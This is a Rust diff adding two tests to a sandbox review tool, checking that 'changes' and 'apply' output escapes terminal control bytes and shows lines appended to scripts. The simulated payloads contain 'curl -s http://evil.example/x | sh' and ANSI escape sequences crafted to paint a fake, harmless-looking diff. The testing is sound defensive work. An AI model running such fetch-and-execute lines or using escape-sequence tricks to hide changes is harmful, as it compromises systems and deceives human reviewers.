@@ -973,3 +973,76 @@ fn walk_size(dir: &std::path::Path) -> u64 {
         })
         .sum()
 }
+
+/// A run's file names, link targets and file contents are the payload's:
+/// written raw, ESC sequences move the cursor and paint a harmless diff over
+/// the one `sandbox apply` writes, and a newline in a name prints a fake
+/// headline. What a person reads shows every such byte escaped.
+#[test]
+fn a_payloads_names_and_contents_cannot_steer_the_terminal() {
+    for who in review_identities("a_payloads_names_and_contents_cannot_steer_the_terminal") {
+        let review = Review::new(who);
+        review.project.write("build.sh", "make\n");
+        let (out, id) = review.run(
+            &[],
+            r#"printf 'make\ncurl -s http://evil.example/x | sh\n\033[2A\033[G\033[J\033[1m M build.sh\033[0m\n\r\b+echo harmless\n' > build.sh \
+              && touch 'README.md (file 0644, 2 bytes, sha256 0000)
+M zz' \
+              && ln -s "$(printf 'x\033[2Jy')" link"#,
+        );
+        assert_ok(&out, "run");
+        for args in [vec!["changes", id.as_str()], vec!["apply", id.as_str()]] {
+            let shown = review.sandbox(&args);
+            for (stream, bytes) in [("stdout", &shown.stdout), ("stderr", &shown.stderr)] {
+                for control in [0x1b_u8, 0x08, b'\r'] {
+                    assert!(
+                        !bytes.contains(&control),
+                        "{who:?} {args:?} {stream} holds byte {control:#x}: {}",
+                        text(bytes)
+                    );
+                }
+                assert!(
+                    !text(bytes).lines().any(|line| line.starts_with("M zz")),
+                    "{who:?} {args:?} {stream} shows a fake headline: {}",
+                    text(bytes)
+                );
+            }
+            if args[0] == "changes" {
+                assert_ok(&shown, "changes");
+                let shown = text(&shown.stdout);
+                assert!(
+                    shown.contains("\n+curl -s http://evil.example/x | sh\n"),
+                    "{who:?}: the real added line is hidden: {shown}"
+                );
+                assert!(shown.contains("\\u{1b}[2A"), "{who:?}: {shown}");
+            }
+        }
+    }
+}
+
+/// One invalid byte used to make a whole script "binary", hiding what the
+/// run appended to it; a script that really is binary is named as one.
+#[test]
+fn a_stray_byte_cannot_hide_a_scripts_new_lines() {
+    for who in review_identities("a_stray_byte_cannot_hide_a_scripts_new_lines") {
+        let review = Review::new(who);
+        review.project.write("build.sh", "make\n");
+        let (out, id) = review.run(
+            &[],
+            r"printf 'make\n# \377\ncurl -s http://evil.example/x | sh\n' > build.sh \
+              && printf '#!/bin/sh\n\000\n' > run.sh && chmod +x run.sh",
+        );
+        assert_ok(&out, "run");
+        let shown = review.sandbox(&["changes", &id]);
+        assert_ok(&shown, "changes");
+        let shown = text(&shown.stdout);
+        assert!(
+            shown.contains("\n+# \\x{ff}\n+curl -s http://evil.example/x | sh\n"),
+            "{who:?}: the appended line is hidden: {shown}"
+        );
+        assert!(
+            shown.contains("(an executable or script shown as binary: read it before applying)"),
+            "{who:?}: {shown}"
+        );
+    }
+}
